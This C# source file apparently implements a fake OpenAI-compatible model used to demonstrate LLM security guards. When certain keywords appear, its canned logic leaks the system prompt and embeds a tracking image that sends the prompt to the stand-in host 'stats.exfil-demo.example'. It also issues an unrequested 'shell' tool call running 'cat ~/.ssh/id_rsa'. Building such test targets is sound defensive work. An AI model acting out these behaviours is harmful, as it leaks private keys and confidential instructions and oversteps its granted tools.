using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;
using LlmSecOps.Server.Gateway.Http;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace LlmSecOps.Server.Demo;

/// <summary>
/// A simulated OpenAI-compatible API for <c>llmsecops demo</c>. It is not a model: it picks a
/// canned answer from keywords in the last user message, and on purpose misbehaves when asked to
/// — it repeats its system prompt, embeds a tracking image that carries data out, or calls a
/// <c>shell</c> tool — so the guards in front of it have something to catch.
/// </summary>
internal sealed class DemoUpstream : IAsyncDisposable
{
    /// <summary>The one model this simulation answers as.</summary>
    public const string Model = "demo-assistant";

    private const string ExfilHost = "stats.exfil-demo.example";
    private readonly WebApplication _app;

    private DemoUpstream(WebApplication app)
    {
        _app = app;
    }

    /// <summary>Base URL for the gateway (ends in <c>/v1/</c>).</summary>
    public Uri BaseUrl { get; private set; } = null!;

    /// <summary>Starts on a free loopback port.</summary>
    public static async Task<DemoUpstream> StartAsync(CancellationToken cancellationToken = default)
    {
        var builder = WebApplication.CreateSlimBuilder();
        builder.WebHost.UseUrls("http://127.0.0.1:0");
        builder.Logging.ClearProviders();
        var app = builder.Build();
        var demo = new DemoUpstream(app);
        app.MapPost("/v1/chat/completions", ChatAsync);
        app.MapPost("/v1/embeddings", EmbeddingsAsync);
        app.MapGet("/v1/models", static http => Json(http, new JsonObject
        {
            ["object"] = "list",
            ["data"] = new JsonArray(new JsonObject { ["id"] = Model, ["object"] = "model", ["created"] = 0, ["owned_by"] = "llmsecops-demo" }),
        }));
        await app.StartAsync(cancellationToken).ConfigureAwait(false);
        var address = app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        demo.BaseUrl = new Uri(address.TrimEnd('/') + "/v1/");
        return demo;
    }

    private static async Task ChatAsync(HttpContext http)
    {
        var body = await JsonNode.ParseAsync(http.Request.Body, cancellationToken: http.RequestAborted).ConfigureAwait(false) as JsonObject;
        if (body?.Prop("messages") is not JsonArray messages)
        {
            http.Response.StatusCode = 400;
            await Json(http, JsonNode.Parse(OpenAiError.Serialize(OpenAiError.InvalidRequest, null, "messages required"))!).ConfigureAwait(false);
            return;
        }

        var system = new StringBuilder();
        string user = string.Empty;
        foreach (var m in messages)
        {
            var role = m.Prop("role").Str();
            var text = TextOf(m.Prop("content"));
            if (role is "system" or "developer")
            {
                system.Append(system.Length > 0 ? "\n" : string.Empty).Append(text);
            }
            else if (role == "user")
            {
                user = text;
            }
        }

        var offered = new HashSet<string>(StringComparer.Ordinal);
        if (body.Prop("tools") is JsonArray tools)
        {
            foreach (var t in tools)
            {
                if (t.Prop("function").Prop("name").Str() is { } n)
                {
                    offered.Add(n);
                }
            }
        }

        var (content, toolName, toolArgs, uncertain) = Decide(user.ToLowerInvariant(), system.ToString(), offered);
        var stream = body.Prop("stream").Bool() == true;
        var logprobs = body.Prop("logprobs").Bool() == true;
        var topK = (int)(body.Prop("top_logprobs").Int() ?? 0);
        if (stream)
        {
            await StreamAsync(http, content, toolName, toolArgs, logprobs, topK, uncertain, body.Prop("stream_options").Prop("include_usage").Bool() == true).ConfigureAwait(false);
            return;
        }

        var message = new JsonObject { ["role"] = "assistant", ["content"] = toolName is null ? content : null, ["refusal"] = null };
        if (toolName is not null)
        {
            message["tool_calls"] = new JsonArray(new JsonObject
            {
                ["id"] = "call_demo_1",
                ["type"] = "function",
                ["function"] = new JsonObject { ["name"] = toolName, ["arguments"] = toolArgs },
            });
        }

        var tokens = Tokens(content).ToList();
        await Json(http, new JsonObject
        {
            ["id"] = "chatcmpl-demo-" + RandomNumberGenerator.GetHexString(8, lowercase: true),
            ["object"] = "chat.completion",
            ["created"] = DateTimeOffset.UtcNow.ToUnixTimeSeconds(),
            ["model"] = Model,
            ["choices"] = new JsonArray(new JsonObject
            {
                ["index"] = 0,
                ["message"] = message,
                ["logprobs"] = logprobs && toolName is null ? new JsonObject { ["content"] = Logprobs(tokens, topK, uncertain) } : null,
                ["finish_reason"] = toolName is null ? "stop" : "tool_calls",
            }),
            ["usage"] = Usage(user, tokens.Count),
        }).ConfigureAwait(false);
    }

    /// <summary>The canned behaviour: which answer, or which tool call, for a message.</summary>
    private static (string Content, string? Tool, string? Args, bool Uncertain) Decide(string user, string system, HashSet<string> offered)
    {
        if (user.Contains("weather", StringComparison.Ordinal))
        {
            var city = user.Contains("oslo", StringComparison.Ordinal) ? "Oslo" : "Lisbon";
            return (string.Empty, "get_weather", $"{{\"city\":\"{city}\",\"unit\":\"celsius\"}}", false);
        }

        if (user.Contains("disk", StringComparison.Ordinal) || user.Contains("shell", StringComparison.Ordinal) || user.Contains("run the command", StringComparison.Ordinal))
        {
            // Calls shell whether or not it was offered: the out-of-band case.
            _ = offered;
            return (string.Empty, "shell", "{\"command\":\"df -h && cat ~/.ssh/id_rsa\"}", false);
        }

        if (user.Contains("instructions", StringComparison.Ordinal) || user.Contains("system prompt", StringComparison.Ordinal) || user.Contains("repeat everything", StringComparison.Ordinal))
        {
            return ("Of course. These are the instructions I was given:\n\n" + system, null, null, false);
        }

        if (user.Contains("status image", StringComparison.Ordinal) || user.Contains("dashboard badge", StringComparison.Ordinal))
        {
            var leaked = Uri.EscapeDataString(system.Length > 80 ? system[..80] : system);
            return ($"Here is your booking summary with a live status badge:\n\n![status](https://{ExfilHost}/badge.png?s={leaked})\n\nYour trip is confirmed.", null, null, false);
        }

        if (user.Contains("lottery", StringComparison.Ordinal) || user.Contains("guess", StringComparison.Ordinal))
        {
            return ("Perhaps seven, or maybe forty-two, possibly thirteen; it is impossible to say.", null, null, true);
        }

        foreach (var (keyword, answer) in Answers)
        {
            if (user.Contains(keyword, StringComparison.Ordinal))
            {
                return (answer, null, null, false);
            }
        }

        var placeholder = FirstPlaceholder(user);
        if (placeholder is not null)
        {
            return ($"I noticed you pasted {placeholder}. Treat it as compromised: rotate it and keep it out of chats.", null, null, false);
        }

        return ("This is the demo assistant. It is a simulation with canned answers, so ask about capitals, Python, packing lists or the weather.", null, null, false);
    }

    private static readonly (string Keyword, string Answer)[] Answers =
    [
        ("capital of australia", "The capital of Australia is Canberra, chosen as a compromise between Sydney and Melbourne."),
        ("list comprehension", "A list comprehension builds a list from an iterable in one expression, for example [x * x for x in range(5)] gives the squares of 0 to 4."),
        ("packing list", "For a weekend in the mountains: layers, a rain shell, sturdy shoes, a water bottle, snacks, a map and a small first-aid kit."),
        ("bread", "Mix flour, water, salt and yeast, knead for ten minutes, let it rise until doubled, shape it, rise again and bake at 230 °C for about 35 minutes."),
        ("summarise", "The customer asked to move a booking from Friday to Saturday; the change is possible for a fee of 25 euros."),
    ];

    private static async Task StreamAsync(HttpContext http, string content, string? tool, string? args, bool logprobs, int topK, bool uncertain, bool includeUsage)
    {
        http.Response.ContentType = "text/event-stream";
        var id = "chatcmpl-demo-" + RandomNumberGenerator.GetHexString(8, lowercase: true);
        var created = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        async Task Send(JsonObject delta, string? finish, JsonNode? lp = null)
        {
            var chunk = new JsonObject
            {
                ["id"] = id,
                ["object"] = "chat.completion.chunk",
                ["created"] = created,
                ["model"] = Model,
                ["choices"] = new JsonArray(new JsonObject { ["index"] = 0, ["delta"] = delta, ["logprobs"] = lp, ["finish_reason"] = finish }),
            };
            await http.Response.WriteAsync("data: " + chunk.ToJsonString() + "\n\n", http.RequestAborted).ConfigureAwait(false);
            await http.Response.Body.FlushAsync(http.RequestAborted).ConfigureAwait(false);
            await Task.Delay(2, http.RequestAborted).ConfigureAwait(false);
        }

        await Send(new JsonObject { ["role"] = "assistant", ["content"] = string.Empty }, null).ConfigureAwait(false);
        var tokens = Tokens(content).ToList();
        var position = 0;
        foreach (var token in tokens)
        {
            var lp = logprobs ? new JsonObject { ["content"] = Logprobs([token], topK, uncertain, position) } : null;
            await Send(new JsonObject { ["content"] = token }, null, lp).ConfigureAwait(false);
            position++;
        }

        if (tool is not null)
        {
            await Send(new JsonObject { ["tool_calls"] = new JsonArray(new JsonObject { ["index"] = 0, ["id"] = "call_demo_1", ["type"] = "function", ["function"] = new JsonObject { ["name"] = tool, ["arguments"] = string.Empty } }) }, null).ConfigureAwait(false);
            for (var i = 0; i < args!.Length; i += 8)
            {
                await Send(new JsonObject { ["tool_calls"] = new JsonArray(new JsonObject { ["index"] = 0, ["function"] = new JsonObject { ["arguments"] = args.Substring(i, Math.Min(8, args.Length - i)) } }) }, null).ConfigureAwait(false);
            }
        }

        await Send(new JsonObject(), tool is null ? "stop" : "tool_calls").ConfigureAwait(false);
        if (includeUsage)
        {
            var usage = new JsonObject { ["id"] = id, ["object"] = "chat.completion.chunk", ["created"] = created, ["model"] = Model, ["choices"] = new JsonArray(), ["usage"] = Usage(content, tokens.Count) };
            await http.Response.WriteAsync("data: " + usage.ToJsonString() + "\n\n", http.RequestAborted).ConfigureAwait(false);
        }

        await http.Response.WriteAsync("data: [DONE]\n\n", http.RequestAborted).ConfigureAwait(false);
    }

    private static async Task EmbeddingsAsync(HttpContext http)
    {
        var body = await JsonNode.ParseAsync(http.Request.Body, cancellationToken: http.RequestAborted).ConfigureAwait(false);
        var inputs = body.Prop("input") is JsonArray a ? a.Select(x => x.Str() ?? string.Empty).ToList() : [body.Prop("input").Str() ?? string.Empty];
        var data = new JsonArray();
        for (var i = 0; i < inputs.Count; i++)
        {
            // A stable pseudo-vector from the text's hash: a simulation, not an embedding model.
            var hash = SHA256.HashData(Encoding.UTF8.GetBytes(inputs[i]));
            var vector = new JsonArray();
            for (var k = 0; k < 8; k++)
            {
                vector.Add(Math.Round((hash[k] / 127.5) - 1, 4));
            }

            data.Add(new JsonObject { ["object"] = "embedding", ["index"] = i, ["embedding"] = vector });
        }

        await Json(http, new JsonObject { ["object"] = "list", ["data"] = data, ["model"] = "demo-embedding", ["usage"] = new JsonObject { ["prompt_tokens"] = inputs.Sum(t => Tokens(t).Count()), ["total_tokens"] = inputs.Sum(t => Tokens(t).Count()) } }).ConfigureAwait(false);
    }

    private static JsonArray Logprobs(IReadOnlyList<string> tokens, int topK, bool uncertain, int offset = 0)
    {
        var array = new JsonArray();
        for (var i = 0; i < tokens.Count; i++)
        {
            var top = new JsonArray();
            var k = Math.Max(topK, 1);
            for (var j = 0; j < k; j++)
            {
                // Confident answers put nearly all mass on the chosen token; uncertain ones spread it.
                var lp = uncertain ? Math.Log(1.0 / k) - (0.05 * j) : (j == 0 ? -0.02 : -5.5 - j - ((i + offset) % 3));
                top.Add(new JsonObject { ["token"] = j == 0 ? tokens[i] : " alt" + j.ToString(CultureInfo.InvariantCulture), ["logprob"] = Math.Round(lp, 4), ["bytes"] = null });
            }

            array.Add(new JsonObject { ["token"] = tokens[i], ["logprob"] = top[0]!["logprob"]!.DeepClone(), ["bytes"] = null, ["top_logprobs"] = topK > 0 ? top : new JsonArray() });
        }

        return array;
    }

    private static JsonObject Usage(string prompt, int completionTokens)
    {
        var promptTokens = Math.Max(1, Tokens(prompt).Count());
        return new JsonObject { ["prompt_tokens"] = promptTokens, ["completion_tokens"] = completionTokens, ["total_tokens"] = promptTokens + completionTokens };
    }

    private static IEnumerable<string> Tokens(string text)
    {
        var start = 0;
        for (var i = 1; i <= text.Length; i++)
        {
            if (i == text.Length || text[i] is ' ' or '\n')
            {
                yield return text[start..i];
                start = i;
            }
        }
    }

    private static string TextOf(JsonNode? content)
    {
        if (content.Str() is { } s)
        {
            return s;
        }

        var sb = new StringBuilder();
        if (content is JsonArray parts)
        {
            foreach (var p in parts)
            {
                if (p.Prop("text").Str() is { } t)
                {
                    sb.Append(t).Append(' ');
                }
            }
        }

        return sb.ToString();
    }

    private static string? FirstPlaceholder(string lowerText)
    {
        var open = lowerText.IndexOf('[', StringComparison.Ordinal);
        var close = open < 0 ? -1 : lowerText.IndexOf(']', open);
        return close > open && close - open < 64 ? lowerText[open..(close + 1)].ToUpperInvariant() : null;
    }

    private static Task Json(HttpContext http, JsonNode doc)
    {
        http.Response.ContentType = "application/json";
        return http.Response.WriteAsync(doc.ToJsonString(), http.RequestAborted);
    }

    /// <inheritdoc />
    public async ValueTask DisposeAsync()
    {
        await _app.StopAsync().ConfigureAwait(false);
        await _app.DisposeAsync().ConfigureAwait(false);
    }
}
